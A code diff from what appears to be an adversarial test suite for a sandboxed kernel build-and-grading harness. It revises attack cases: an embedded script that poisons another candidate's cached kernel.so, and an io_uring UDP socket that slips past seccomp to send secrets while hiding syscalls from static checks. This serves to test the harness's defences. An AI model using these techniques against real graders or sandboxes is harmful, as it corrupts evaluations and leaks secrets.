@@ -405,8 +405,9 @@ POISON_PY = r'''
 import glob, os, shutil
 evil = [p for p in glob.glob("**/cpu/*/kernel.so", recursive=True) if b"z23-evil" in open(p, "rb").read()]
 for target in glob.glob("**/cpu/{{POISON_KEY}}/kernel.so", recursive=True):
-    if evil:
-        shutil.copyfile(evil[0], target)
+    if evil:  # a new file over the slot (the loaded library's mapping stays intact)
+        shutil.copyfile(evil[0], target + ".new")
+        os.replace(target + ".new", target)
 '''
 POISON_MODULE = '''
 EVIL = r"""{{EVIL_SOURCE}}"""
@@ -479,11 +480,12 @@ HOOK static void at_load() {
 }
 extern "C" void attack() {}
 '''), "1"),
-    z23(replace(native("z23_ctor_cache_poison_other_key", "a constructor copies a wrong library into the build slot of "
-                       "another source's key (the cache would hand it to the next honest candidate)", PY_EXEC + HOOK + r'''
-HOOK static void at_load() { run_python(''' + c_string(POISON_PY) + r'''); }
-extern "C" void attack() {}
-''', static="tokens"), module_code="lib.attack()\n" + POISON_MODULE), "1"),
+    z23(replace(native("z23_ctor_cache_poison_other_key", "once a wrong library and another source's are built, "
+                       "the candidate's code copies the wrong one into the other's build slot (the cache would hand "
+                       "it to the next honest candidate); builds are served in call order, so it acts after both",
+                       PY_EXEC + r'''
+extern "C" void attack() { run_python(''' + c_string(POISON_PY) + r'''); }
+''', static="tokens"), module_code=POISON_MODULE + "lib.attack()\n"), "1"),
     z23(replace(native("z23_uring_socket_udp_secrets", "io_uring IORING_OP_SOCKET makes a UDP socket the seccomp filter never "
                "sees, then sendto() sends the secrets; syscall() is found by walking libc's symbols, so no "
                "static check sees a system call", LIBC_WALK + URING + r'''
